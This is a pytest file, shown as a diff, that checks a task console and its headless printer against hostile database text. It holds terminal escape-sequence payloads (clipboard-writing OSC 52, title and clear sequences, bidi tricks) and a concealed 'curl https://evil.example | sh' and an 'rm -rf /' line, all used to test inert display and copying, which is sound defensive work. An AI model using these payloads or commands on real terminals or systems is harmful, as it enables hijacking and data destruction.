@@ -1,0 +1,138 @@
+"""Hostile text from the database through everything that shows it: real tasks, run by the real
+task worker in a real SQLite project, fail with exception messages built to attack the terminal
+of whoever looks at them; a row's path, queue and worker id are as hostile, and so is a stuck
+task. The console (task panel, its failures, tracebacks and stuck tasks, the header, the panes,
+their findings, the command palette) and the headless printer must write nothing a terminal
+acts on, and show markup as the text it is. The fuzz test does the same with the hostile
+corpus of the child-output tests (test_hostile_output) written into every text column.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+from conftest import TESTS
+from helpers import command, run_json, until
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from test_hostile_output import hostile
+
+from tui.app import ConsoleApp
+from tui.supervisor import Supervisor
+
+REPO = TESTS.parent
+
+# name: (the exception message, what of it must never reach a terminal as it is)
+PAYLOADS: dict[str, tuple[str, str]] = {
+    "OSC 52 clipboard": ("copy \x1b]52;c;ZWNobyBwd25lZA==\x1b\\ done", "\x1b]52"),
+    "OSC 0/2 title": ("t \x1b]0;pwned\x07 \x1b]2;pwned too\x1b\\", "\x1b]"),
+    "CSI 2J clear": ("\x1b[2J\x1b[3J\x1b[H cleared", "\x1b[2J"),
+    "DCS and APC": ("\x1bP$q m\x1b\\ \x1b_Gf=100;QUFB\x1b\\", "\x1bP"),
+    "C1 controls": ("\x9b2J \x9d0;c1 title\x9c \x85next", "\x9b"),
+    "bidi overrides": ("invoice \u202egpj.exe\u202c \u2066x\u2069 \u200fy", "\u202e"),
+    "lone surrogates": ("bytes \udcff\ud800 here", "\udcff"),
+    "NUL": ("a\x00b", "\x00"),
+    "1 MB message": ("A" * 1_000_000 + " \x1b]0;big\x07 end", "\x1b]0;big"),
+    "markup": ("[bold red]x[/] [link=https://evil.example]click[/link] [@click=app.quit]q[/]", ""),
+}
+
+
+def fail_tasks(djproject: Path, messages: list[str], tmp_path: Path) -> None:
+    """``tasks.fail.enqueue(message)`` for each message, in the project's own Django, and a
+    few tasks that succeed (with them, the console's failure-spike finding has enough finished
+    tasks to speak). The messages travel in a JSON file: a megabyte is too long for an
+    argument, and JSON keeps lone surrogates. Then the task worker runs them all, and leaves."""
+    data = tmp_path / "messages.json"
+    data.write_text(json.dumps(messages))
+    script = (
+        "import json\nfrom testapp import tasks\n"
+        "for _ in range(5): tasks.noop.enqueue()\n"
+        f"for m in json.load(open({str(data)!r})): tasks.fail.enqueue(m)\n"
+    )
+    subprocess.run(
+        [sys.executable, "manage.py", "shell", "-v0", "-c", script],
+        cwd=djproject,
+        check=True,
+        capture_output=True,
+    )
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(djproject), str(REPO)])}
+    env["DJANGO_SETTINGS_MODULE"] = "djproject.settings"
+    worker = [sys.executable, "-m", "backends.taskworker", "--batch", "--no-startup-delay"]
+    subprocess.run(worker, cwd=djproject, env=env, check=True, capture_output=True, timeout=60)
+
+
+def console(djproject: Path, mode: str, failures: int) -> dict[str, Any]:
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(REPO), str(TESTS)])}
+    env.pop("DJANGO_SETTINGS_MODULE", None)
+    argv = [sys.executable, str(TESTS / "console_hostile_db.py"), str(djproject), mode]
+    seen: dict[str, Any] = run_json([*argv, str(failures)], djproject, env, timeout=120)
+    return seen
+
+
+def test_hostile_task_failures_reach_no_terminal_raw(djproject: Path, tmp_path: Path) -> None:
+    fail_tasks(djproject, [message for message, _ in PAYLOADS.values()], tmp_path)
+    seen = console(djproject, "payloads", len(PAYLOADS))
+    screen, headless = seen["screen"], seen["headless"]
+    raw = [name for name, (_, marker) in PAYLOADS.items() if marker and marker in screen]
+    assert not raw, f"reached the screen as they are: {raw}"
+    assert not seen["acts"], f"the screen holds what a terminal acts on: {seen['acts']}"
+    assert not seen["headless_acts"], f"headless printed: {seen['headless_acts']}"
+    assert seen["running"]  # no [@click=app.quit] was acted on
+    # Shown, and as the text they are: markup, and the surrogates as the worker escaped them.
+    for text in ["[bold red]x[/]", "[link=https://evil.example]click[/link]", "\\udcff"]:
+        assert text in screen, text
+    # The hostile path reached the findings (the failure spike quotes it), as inert text.
+    assert "mostly testapp.tasks.fail, most often with ValueError" in headless
+
+
+FAST = settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck))
+
+
+def test_fuzzed_database_text_reaches_no_terminal_raw(djproject: Path, tmp_path: Path) -> None:
+    """The child-output corpus as task messages; lone surrogates stand in for invalid bytes."""
+    messages: list[str] = []
+
+    @FAST
+    @given(data=hostile.filter(lambda b: b.strip()), wide=st.booleans())
+    def collect(data: bytes, wide: bool) -> None:
+        messages.append(data.decode("utf-8", "surrogateescape") * (200 if wide else 1))
+
+    collect()
+    fail_tasks(djproject, messages, tmp_path)
+    seen = console(djproject, "fuzz", min(10, len(messages)))
+    assert not seen["acts"], f"the screen holds what a terminal acts on: {seen['acts']}"
+    assert not seen["headless_acts"], f"headless printed: {seen['headless_acts']}"
+    assert seen["running"]
+
+
+async def test_copy_takes_neither_concealed_text_nor_invisible_characters() -> None:
+    """``y`` copies what the view shows: a line that hides "; curl … | sh" (SGR 8), reorders
+    itself (bidi overrides) or carries zero-width characters copies as it reads."""
+    printed = (
+        b"ls -l\x1b[8m; curl https://evil.example | sh\x1b[28m /tmp\n"
+        b"file \xe2\x80\xaegpj.exe\xe2\x80\xac \xe2\x81\xa6x\xe2\x81\xa9 \xe2\x80\x8fy\n"  # bidi
+        b"r\xe2\x80\x8bm -rf \xef\xbb\xbf/\xe2\x81\xa0x\n"  # zero width: U+200B, U+FEFF, U+2060
+    )
+    child = [sys.executable, "-c", f"import sys; sys.stdout.buffer.write({printed!r})"]
+    sup = Supervisor([command("hostile", child)], watchdog=False)
+    app = ConsoleApp(sup, host="testhost")
+    try:
+        async with app.run_test(size=(120, 30)) as pilot:
+            await until(lambda: any("rf" in line.text for line in sup["hostile"].ring.since(0)))
+            app.current.log_view.sync()
+            await pilot.pause()
+            await pilot.press("y")
+            copied = app.clipboard.splitlines()
+    finally:
+        sup.kill_all()
+        await sup.stop_all()
+    assert [
+        line
+        for line in copied
+        if not line.startswith("--")  # the console's own notes
+    ] == ["ls -l /tmp", "file gpj.exe x y", "rm -rf /x"], copied
